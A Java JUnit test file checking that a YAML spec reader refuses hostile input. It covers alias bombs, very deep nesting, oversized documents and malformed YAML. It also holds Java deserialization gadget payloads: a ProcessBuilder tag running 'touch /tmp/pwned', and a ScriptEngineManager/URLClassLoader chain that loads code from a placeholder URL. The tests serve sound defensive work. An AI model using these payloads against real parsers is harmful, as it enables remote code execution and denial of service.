package dev.segfold.contracts.spec.paddleseg;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.segfold.contracts.spec.InvalidSpecException;
import dev.segfold.contracts.spec.SpecProblem;
import java.time.Duration;
import org.junit.jupiter.api.Test;

/** Documents built to hurt a parser are refused quickly, with a reason a person can act on. */
class HostileYamlTest {

    private final PaddleSegYamlReader reader = new PaddleSegYamlReader();

    private SpecProblem refusal(String yaml) {
        InvalidSpecException e = assertTimeoutPreemptively(Duration.ofSeconds(10),
                () -> assertThrows(InvalidSpecException.class,
                        () -> reader.read("hostile.yml", yaml, SeedYaml.seedQuery(), "run-1")));
        assertEquals(1, e.problems().size(), e.problems().toString());
        assertTrue(e.getMessage().startsWith("hostile.yml is invalid"), e.getMessage());
        return e.problems().get(0);
    }

    @Test
    void billionLaughsStopsAtTheAliasLimit() {
        StringBuilder yaml = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            char p = (char) (c - 1);
            yaml.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ",").append('*').append(p);
            }
            yaml.append("]\n");
        }
        SpecProblem problem = refusal(yaml.toString());
        assertEquals("", problem.field());
        assertTrue(problem.reason().contains("aliases"), problem.reason());
    }

    @Test
    void tenThousandDeepNestingStopsAtTheDepthLimit() {
        SpecProblem flow = refusal("iters: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n");
        assertTrue(flow.reason().toLowerCase().contains("nesting"), flow.reason());
        SpecProblem maps = refusal("a: " + "{a: ".repeat(10_000) + "1" + "}".repeat(10_000) + "\n");
        assertTrue(maps.reason().toLowerCase().contains("nesting"), maps.reason());
    }

    @Test
    void javaTagsConstructNothing() {
        SpecProblem problem = refusal("model: !!java.lang.ProcessBuilder [[\"touch\", \"/tmp/pwned\"]]\n");
        assertTrue(problem.reason().contains("java.lang.ProcessBuilder"), problem.reason());
        SpecProblem local = refusal("model: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n");
        assertTrue(local.reason().contains("cannot be read"), local.reason());
        SpecProblem custom = refusal("model: !<tag:example.com,2024:x> {a: 1}\n");
        assertTrue(custom.reason().contains("cannot be read"), custom.reason());
    }

    @Test
    void aRootThatIsNotAMappingIsRefused() {
        assertTrue(refusal("- iters\n- 3\n").reason().contains("is a list"));
        assertTrue(refusal("just text\n").reason().contains("single string"));
        assertTrue(refusal("42\n").reason().contains("single integer"));
        assertTrue(refusal("").reason().contains("is empty"));
        assertTrue(refusal("# only a comment\n").reason().contains("is empty"));
    }

    @Test
    void aHugeDocumentIsRefusedBySize() {
        String huge = "iters: 30000\npadding: \"" + "x".repeat(SafeYaml.MAX_CODE_POINTS) + "\"\n";
        SpecProblem problem = refusal(huge);
        assertTrue(problem.reason().contains("at most 1000000"), problem.reason());
    }

    @Test
    void malformedTextAndDuplicateKeysNameTheLine() {
        SpecProblem broken = refusal("iters: 30000\nmodel: [unclosed\n");
        assertTrue(broken.reason().contains("line"), broken.reason());
        SpecProblem duplicate = refusal("iters: 30000\niters: 1\n");
        assertTrue(duplicate.reason().contains("duplicate key iters"), duplicate.reason());
        assertTrue(refusal("a: 1\n---\nb: 2\n").reason().contains("single document"));
    }
}
